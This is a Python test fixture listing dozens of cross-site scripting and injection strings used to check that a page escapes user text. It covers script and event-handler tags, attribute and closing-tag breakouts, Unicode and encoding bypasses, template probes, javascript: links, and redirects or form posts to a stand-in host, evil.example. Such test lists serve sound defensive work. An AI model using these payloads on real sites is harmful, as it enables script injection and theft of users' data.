"""Texts that become something else wherever a page forgets to escape them.

Each would set ``window.stolen`` or open a dialog, or at least break out of the place that it is shown in.
"""

HOSTILE_TEXTS = [
    # Elements in text.
    "<script>window.stolen=1</script>",
    "<ScRiPt >window.stolen=1</sCrIpT\t>",
    "<scr<script>ipt>window.stolen=1</scr</script>ipt>",
    "<img src=x onerror=window.stolen=1>",
    "<img/src=x/onerror=window.stolen=1>",
    "<svg onload=window.stolen=1>",
    "<svg><script>window.stolen=1</script></svg>",
    "<svg><animate onbegin=window.stolen=1 attributeName=x>",
    "<math><mtext></p><img src=x onerror=window.stolen=1>",
    "<iframe srcdoc='<script>parent.stolen=1</script>'>",
    "<body onload=window.stolen=1>",
    "<details open ontoggle=window.stolen=1>",
    "<input autofocus onfocus=window.stolen=1>",
    "<video><source onerror=window.stolen=1>",
    "<object data=javascript:window.stolen=1>",
    "<a href=javascript:window.stolen=1>x</a>",
    "<form action=http://evil.example><button>x",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<template><img src=x onerror=window.stolen=1></template>",
    # The ends of what a text may stand in.
    "</p></div></li><script>window.stolen=1</script>",
    "</textarea><script>window.stolen=1</script>",
    "</title><script>window.stolen=1</script>",
    "</script><script>window.stolen=1</script>",
    "--><script>window.stolen=1</script><!--",
    "]]><script>window.stolen=1</script>",
    # Attributes.
    "\" onmouseover=window.stolen=1 x=\"",
    "' onfocus=window.stolen=1 autofocus x='",
    "\"><img src=x onerror=window.stolen=1>",
    "'><img src=x onerror=window.stolen=1>",
    "` onerror=window.stolen=1 x=`",
    "x onmouseover=window.stolen=1",
    # A mark that joins the character before it, so that it is not the character that escaping looks for.
    "<\u0301script>window.stolen=1<\u0301/script>",
    "\"\u0301 onmouseover=window.stolen=1 x=\"\u0301",
    "\"\u200d><img src=x onerror=window.stolen=1>",
    ">\u20dd<\ufe0fimg src=x onerror=window.stolen=1>",
    "&\u0301lt;script>",
    # What is already escaped must be shown as it was written.
    "&lt;script&gt;window.stolen=1&lt;/script&gt;",
    "&#60;script&#62;window.stolen=1&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "%3Cscript%3Ewindow.stolen=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.stolen=1\\u003c/script\\u003e",
    "\uff1cscript\uff1ewindow.stolen=1\uff1c/script\uff1e",
    "+ADw-script+AD4-window.stolen=1+ADw-/script+AD4-",
    # Templates and scripts.
    "{{text}} {{{text}}} {{&text}} {{>layout}} {{=<% %>=}}",
    "${window.stolen=1} #{7*7} <%= 7*7 %>",
    "';window.stolen=1;//",
    "\");window.stolen=1;//",
    # Links.
    "javascript:window.stolen=1",
    "https://example.org/\"onmouseover=window.stolen=1//",
    "https://example.org/'><img src=x onerror=window.stolen=1>",
    "https://example.org/<script>window.stolen=1</script>",
    "http://javascript:window.stolen=1@example.org/",
    "data:text/html,<script>window.stolen=1</script>",
    "vbscript:x java\u200bscript:window.stolen=1 JaVaScRiPt:window.stolen=1",
    # Control characters and directions.
    "<scr\u0000ipt>window.stolen=1</script>",
    "a\u202e<b>gpj.exe\u202c \u2066x\u2069",
    "\ufeff<img src=x onerror=window.stolen=1>",
    "\u2028<img src=x onerror=window.stolen=1>\u2029",
    "line one\n<img src=x onerror=window.stolen=1>\ndata: {\"x\":1}\n\nevent: message.sent",
]
